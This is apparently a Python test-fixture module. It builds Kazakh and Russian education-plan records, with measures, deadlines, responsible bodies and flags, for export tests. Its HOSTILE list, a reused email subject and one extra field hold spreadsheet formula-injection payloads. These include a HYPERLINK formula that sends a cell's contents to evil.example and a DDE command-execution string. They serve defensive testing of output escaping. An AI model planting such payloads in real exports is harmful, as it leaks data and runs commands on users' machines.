"""Documents built with the pydantic models for the output tests: hostile strings, Kazakh and Russian text,
every kind of row (plans, measures, bodies, deadlines, flags at three levels), receipt times near a month
boundary. Built in code, so the tests do not depend on the extraction stages."""
from __future__ import annotations

import datetime as dt
import hashlib

from schemas.records import (
    Body, Column, Deadline, Document, Flag, Measure, Period, Plan, Provenance, Received, Reference, Source,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Басу")',
    "+7 701 234 56 78",
    "-5",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "   =2*3",
    "Жол картасы «сапалы тамақтану», 2-жол\nекінші жол; \"тырнақша\" и 'кавычки'",
]
PLAIN = ["Білім беру ұйымдарында тамақтануды ұйымдастыру", "Мониторинг питания обучающихся", "1.1", "2023 ж."]


def doc_id(seed: str) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()


def measure(plan_id: str, ordinal: int, text: str, responsible: str | None = None, **extra) -> Measure:
    bodies = [Body(name="БББ", canonical="Атырау облысы Білім беру басқармасы", body_id="kz-atyrau-bbb",
                   source="glossary", role="lead"),
              Body(name="ДСБ (келісім бойынша)", canonical="Денсаулық сақтау басқармасы", by_agreement=True,
                   source="glossary", role="co"),
              Body(name="мектептер")]
    deadlines = [Deadline(raw="2023 жылғы 1 қыркүйекке дейін", kind="date", end=dt.date(2023, 9, 1), by=True,
                          confidence=0.9),
                 Deadline(raw="жылына 4 рет", kind="recurring", freq="yearly", times_per_period=4,
                          rrule="FREQ=YEARLY;COUNT=4", confidence=0.6)]
    return Measure(
        measure_id=f"{plan_id}:m{ordinal}", number=str(ordinal), section="I. Ұйымдастыру жұмыстары",
        text=text, responsible_raw=responsible or "БББ, ДСБ (келісім бойынша), мектептер",
        responsible=bodies[: 1 + ordinal % 3], completion_form="Ақпарат", deadline_raw="2023 жылғы 1 қыркүйекке дейін",
        deadlines=deadlines[: 1 + ordinal % 2], indicator="100%", provenance=Provenance(table=1, row=ordinal + 1),
        **extra,
    )


def hostile_document(seed: str = "hostile", received_at: dt.datetime | None = None,
                     texts: list[str] | None = None) -> Document:
    """Two plans (a table plan with hostile cells, a list plan), flags on every level."""
    document_id = doc_id(seed)
    texts = texts if texts is not None else HOSTILE + PLAIN
    first, second = f"{document_id[:16]}:p1", f"{document_id[:16]}:p2"
    measures = [measure(first, i, text, responsible=texts[-i]) for i, text in enumerate(texts, start=1)]
    measures[0].flags.append(Flag(code="numbering_gap", message="after 1 comes 3", where="row 3"))
    measures[1].other = {"Ескерту": "=1+2", "Примечание": "обычный текст"}
    plans = [
        Plan(plan_id=first, title="Іс-шаралар жоспары =SUM(1)", approved_by="Басшы А. Айдарбеков",
             approved_on=dt.date(2023, 8, 15), based_on=Reference(number="06-01/615", date=dt.date(2022, 2, 9)),
             period=Period(start=dt.date(2023, 9, 1), end=dt.date(2024, 5, 31), raw="2023-2024 оқу жылы"),
             columns=[Column(header="№", role="number", index=0), Column(header="Іс-шаралар", role="measure", index=1)],
             glossary={"БББ": "Атырау облысы Білім беру басқармасы", "Қ(А)БББ": "қалалық аудандық бөлімдер"},
             measures=measures, flags=[Flag(code="numbering_gap", message="-проверьте", where=None)]),
        Plan(plan_id=second, title="План мероприятий", kind="list", parent_plan_id=first,
             measures=[measure(second, 1, "Провести совещание")]),
    ]
    received = None
    if received_at is not None:
        received = Received(channel="imap", message_id=f"<{seed}@mail.kz>", uidvalidity=4_000_000_000,
                            uid=3_000_000_001, sender="@attacker <x@y.kz>", subject="=cmd|' /C calc'!A0",
                            received_at=received_at, filename="жоспар.docx")
    return Document(document_id=document_id, source=Source(path=f"/in/{seed}.docx", media_type="application/docx",
                                                           size=12345, raw_path=f"/raw/{document_id}"),
                    language="mixed", plans=plans, flags=[Flag(code="ocr_used", message="+ noted")],
                    received=received, pipeline_version="test-1", n_pages=3)


def empty_document(seed: str = "empty") -> Document:
    """A letter with no plan: only a flag saying why."""
    return Document(document_id=doc_id(seed), source=Source(path=f"/in/{seed}.pdf", media_type="application/pdf"),
                    flags=[Flag(code="no_plan", message="no plan of measures found")], pipeline_version="test-1")


ASTANA = dt.timezone(dt.timedelta(hours=5))


def corpus() -> list[Document]:
    """Four documents over three receipt months (one received 1 March 02:00 in Astana = February in UTC)."""
    return [
        hostile_document("a", dt.datetime(2024, 1, 15, 9, 30, tzinfo=dt.timezone.utc)),
        hostile_document("b", dt.datetime(2024, 3, 1, 2, 0, tzinfo=ASTANA), texts=PLAIN),
        hostile_document("c", None, texts=HOSTILE[:3]),
        empty_document("d"),
    ]
